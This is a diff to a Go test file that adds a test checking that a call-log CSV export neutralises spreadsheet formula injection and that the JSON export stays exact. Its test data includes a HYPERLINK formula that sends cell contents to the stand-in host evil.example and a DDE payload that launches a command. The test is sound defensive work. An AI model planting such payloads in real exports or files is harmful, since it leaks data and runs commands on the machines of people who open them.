@@ -8,6 +8,7 @@ import (
 	"os"
 	"os/exec"
 	"path/filepath"
+	"slices"
 	"strings"
 	"syscall"
 	"testing"
@@ -192,4 +193,59 @@ func FuzzParseFilter(f *testing.F) {
 			t.Fatalf("query failed for %+v: %v", flt, err)
 		}
 	})
+}
+
+// A spreadsheet runs a cell that starts with = + - @ tab or CR as a
+// formula; the CSV export neutralises those, the JSON export stays exact
+// (issue #13, point 7).
+func TestExportCSVNeutralisesFormulas(t *testing.T) {
+	hostile := []string{`=HYPERLINK("http://evil.example/?"&A1,"click")`, `+cmd|' /C calc'!A0`, `-2+3`, `@SUM(A1:A9)`,
+		"\t=1+1", "\r=1+1", "=1"}
+	all := Sample(len(hostile), 8, sampleNow)
+	for i := range all {
+		c := &all[i]
+		c.Initiator.Name = hostile[i]
+		c.Initiator.UID = hostile[(i+1)%len(hostile)]
+		c.Status = hostile[(i+2)%len(hostile)]
+		c.TotalDuration = hostile[(i+3)%len(hostile)]
+		c.Receiver = Receiver{User: &CallUser{UID: hostile[(i+4)%len(hostile)], Name: hostile[(i+5)%len(hostile)]}}
+		c.ReceiverType = "user"
+	}
+	st := newStore(t)
+	require.NoError(t, st.Upsert(ctx, all))
+
+	var out bytes.Buffer
+	require.NoError(t, ExportCSV(ctx, st, Filter{}, &out))
+	rows, err := csv.NewReader(&out).ReadAll()
+	require.NoError(t, err)
+	require.Len(t, rows, len(all)+1)
+	var formulas, changed []string
+	for _, row := range rows[1:] {
+		for j, cell := range row {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				formulas = append(formulas, CSVHeader[j]+": "+cell)
+			}
+		}
+		// The value is kept, behind the quote spreadsheets hide.
+		for _, col := range []int{5, 7, 8, 9, 10, 11} {
+			if v, ok := strings.CutPrefix(row[col], "'"); !ok || !slices.Contains(hostile, v) {
+				changed = append(changed, CSVHeader[col]+": "+row[col])
+			}
+		}
+	}
+	assert.Empty(t, formulas, "cells that start a formula")
+	assert.Empty(t, changed, "cells not kept as ' and the value")
+
+	out.Reset()
+	require.NoError(t, ExportJSON(ctx, st, Filter{}, &out))
+	var back []CallLog
+	require.NoError(t, json.Unmarshal(out.Bytes(), &back))
+	want := map[string]CallLog{}
+	for _, c := range all {
+		want[c.SessionID] = c
+	}
+	require.Len(t, back, len(all))
+	for _, c := range back {
+		assert.Equal(t, want[c.SessionID], c, "the JSON export is exact")
+	}
 }
